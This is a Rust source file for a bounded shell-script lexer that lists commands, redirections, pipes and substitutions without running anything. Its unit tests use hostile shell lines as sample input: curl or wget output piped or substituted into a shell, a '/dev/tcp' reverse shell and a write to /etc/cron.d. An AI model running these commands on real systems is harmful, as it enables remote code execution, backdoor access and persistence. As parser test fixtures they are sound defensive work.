//! The commands in a shell's script, as far as they can be told without running it.
//!
//! No shell: quotes, pipes, substitutions and redirections are seen, and nothing is expanded. Bounded in what it reads and
//! in what it returns, whatever the text.

/// Most bytes of a script that are read.
pub const MAX_SCRIPT_BYTES: usize = 64 << 10;

/// Most commands of one script.
const MAX_COMMANDS: usize = 256;

/// Most words of one script.
const MAX_WORDS: usize = 4_096;

/// Deepest nesting of substitutions that is followed.
const MAX_DEPTH: usize = 16;

/// One simple command.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Command {
    /// Its words, unquoted.
    pub words: Vec<String>,
    /// Files its output goes to.
    pub writes: Vec<String>,
    /// Files its input comes from.
    pub reads: Vec<String>,
    /// The command whose output it reads through a pipe.
    pub piped_from: Option<usize>,
    /// The command in whose words its output stands.
    pub inside: Option<usize>,
}

/// The commands of a script.
pub fn commands(script: &str) -> Vec<Command> {
    let mut end = script.len().min(MAX_SCRIPT_BYTES);
    while !script.is_char_boundary(end) {
        end -= 1;
    }
    let mut lexer = Lexer { text: script[..end].chars().peekable(), found: Vec::new(), open: Vec::new(), words: 0 };
    lexer.begin(None, None);
    lexer.run();
    lexer.found
}

/// What a word is for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Role {
    Word,
    Write,
    Read,
}

#[derive(Debug)]
struct Open {
    command: usize,
    word: String,
    started: bool,
    role: Role,
    /// What ends it: `)`, a backquote, or nothing for the outermost.
    until: Option<char>,
    /// Whether it began between double quotes, which go on behind it.
    quoted: bool,
}

#[derive(Debug)]
struct Lexer<'a> {
    text: std::iter::Peekable<std::str::Chars<'a>>,
    found: Vec<Command>,
    open: Vec<Open>,
    words: usize,
}

impl Lexer<'_> {
    fn begin(&mut self, until: Option<char>, inside: Option<usize>) {
        let command = self.command(None, inside);
        self.open.push(Open { command, word: String::new(), started: false, role: Role::Word, until, quoted: false });
    }

    /// A new command; the last one goes on when there are too many.
    fn command(&mut self, piped_from: Option<usize>, inside: Option<usize>) -> usize {
        if self.found.len() < MAX_COMMANDS {
            self.found.push(Command { piped_from, inside, ..Command::default() });
        }
        self.found.len() - 1
    }

    fn run(&mut self) {
        while let Some(c) = self.text.next() {
            let Some(open) = self.open.last() else { return };
            if open.until == Some(c) {
                self.close();
                continue;
            }
            match c {
                '\'' => self.single(),
                '"' => self.double(),
                '\\' => self.escaped(),
                '`' => self.substitute('`', false),
                '$' if self.text.peek() == Some(&'(') => {
                    self.text.next();
                    self.substitute(')', false);
                }
                '<' if self.text.peek() == Some(&'(') => {
                    self.text.next();
                    self.substitute(')', false);
                }
                '<' | '>' => self.redirect(c),
                '|' | ';' | '&' | '\n' => self.separate(c),
                '(' | ')' => self.separate(';'),
                '{' | '}' if !open.started => self.separate(';'),
                '#' if !open.started => while self.text.next_if(|c| *c != '\n').is_some() {},
                ' ' | '\t' | '\r' => self.end_word(),
                other => self.push(other),
            }
        }
        while !self.open.is_empty() {
            self.end_word();
            self.open.pop();
        }
    }

    fn push(&mut self, c: char) {
        if let Some(open) = self.open.last_mut() {
            open.started = true;
            open.word.push(c);
        }
    }

    fn escaped(&mut self) {
        if let Some(c) = self.text.next()
            && c != '\n'
        {
            self.push(c);
        }
    }

    fn single(&mut self) {
        if let Some(open) = self.open.last_mut() {
            open.started = true;
            open.word.extend(std::iter::from_fn(|| self.text.next_if(|c| *c != '\'')));
        }
        self.text.next();
    }

    fn double(&mut self) {
        if let Some(open) = self.open.last_mut() {
            open.started = true;
        }
        while let Some(c) = self.text.next() {
            match c {
                '"' => return,
                '\\' => self.escaped(),
                '`' => return self.substitute('`', true),
                '$' if self.text.peek() == Some(&'(') => {
                    self.text.next();
                    return self.substitute(')', true);
                }
                other => self.push(other),
            }
        }
    }

    fn substitute(&mut self, until: char, quoted: bool) {
        let Some(open) = self.open.last_mut() else { return };
        open.started = true;
        let inside = open.command;
        if self.open.len() < MAX_DEPTH {
            self.begin(Some(until), Some(inside));
            if let Some(open) = self.open.last_mut() {
                open.quoted = quoted;
            }
        }
    }

    fn close(&mut self) {
        self.end_word();
        if self.open.pop().is_some_and(|open| open.quoted) {
            self.double();
        }
    }

    fn redirect(&mut self, c: char) {
        // The number of a descriptor in front of it is no word.
        if let Some(open) = self.open.last_mut()
            && open.word.len() < 4
            && open.word.bytes().all(|byte| byte.is_ascii_digit())
        {
            open.word.clear();
            open.started = false;
        }
        self.end_word();
        while self.text.next_if(|next| matches!(next, '>' | '<' | '|' | '&')).is_some() {}
        if let Some(open) = self.open.last_mut() {
            open.role = if c == '>' { Role::Write } else { Role::Read };
        }
    }

    fn separate(&mut self, c: char) {
        // `&>` is a redirection.
        if c == '&' && self.text.peek() == Some(&'>') {
            return;
        }
        self.end_word();
        let doubled = self.text.next_if_eq(&c).is_some();
        if c == '|' && !doubled {
            self.text.next_if_eq(&'&');
        }
        let Some(before) = self.open.last().map(|open| open.command) else { return };
        let inside = self.found.get(before).and_then(|command| command.inside);
        let piped_from = (c == '|' && !doubled).then_some(before);
        let command = self.command(piped_from, inside);
        if let Some(open) = self.open.last_mut() {
            open.command = command;
        }
    }

    fn end_word(&mut self) {
        let Some(open) = self.open.last_mut() else { return };
        let role = std::mem::replace(&mut open.role, Role::Word);
        if !open.started {
            // Blanks between an arrow and its file.
            open.role = role;
            return;
        }
        open.started = false;
        let word = std::mem::take(&mut open.word);
        let Some(command) = self.found.get_mut(open.command).filter(|_| self.words < MAX_WORDS) else { return };
        self.words += 1;
        match role {
            Role::Word => command.words.push(word),
            Role::Write => command.writes.push(word),
            Role::Read => command.reads.push(word),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(script: &str) -> Vec<String> {
        commands(script).iter().map(|command| command.words.join(" ")).filter(|words| !words.is_empty()).collect()
    }

    #[test]
    fn simple_commands() {
        assert_eq!(words("id; uname -a && cat 'a b' | wc -l"), ["id", "uname -a", "cat a b", "wc -l"]);
        assert_eq!(words("(cd /tmp; ls) # no"), ["cd /tmp", "ls"]);
    }

    #[test]
    fn pipes_and_substitutions_are_linked() {
        let found = commands("curl -s http://h/x | tee y | sh");
        assert_eq!(found[1].piped_from, Some(0));
        assert_eq!(found[2].piped_from, Some(1));
        let found = commands("bash -c \"$(curl -fsSL http://h/x)\" -- y");
        assert_eq!(found[0].words[..2], ["bash", "-c"]);
        assert_eq!((found[1].words[0].as_str(), found[1].inside), ("curl", Some(0)));
        assert_eq!(found[0].words.last().map(String::as_str), Some("y"));
        assert_eq!(commands("bash <(wget -qO- h)")[1].inside, Some(0));
    }

    #[test]
    fn redirections_name_files() {
        let found = commands("echo 'x y' >> /etc/cron.d/z 2>/dev/null");
        assert_eq!(found[0].words, ["echo", "x y"]);
        assert_eq!(found[0].writes, ["/etc/cron.d/z", "/dev/null"]);
        assert_eq!(commands("cat <in >out")[0].reads, ["in"]);
        assert_eq!(commands("bash -i >& /dev/tcp/h/1 0>&1")[0].writes, ["/dev/tcp/h/1", "1"]);
    }

    #[test]
    fn no_text_is_too_much() {
        for text in ["$(".repeat(50_000), "`\"'".repeat(50_000), "a|".repeat(200_000), "((({{{".repeat(50_000)] {
            let found = commands(&text);
            assert!(found.len() <= MAX_COMMANDS);
        }
        assert_eq!(words("echo \"unended $(id"), ["echo unended ", "id"]);
    }
}
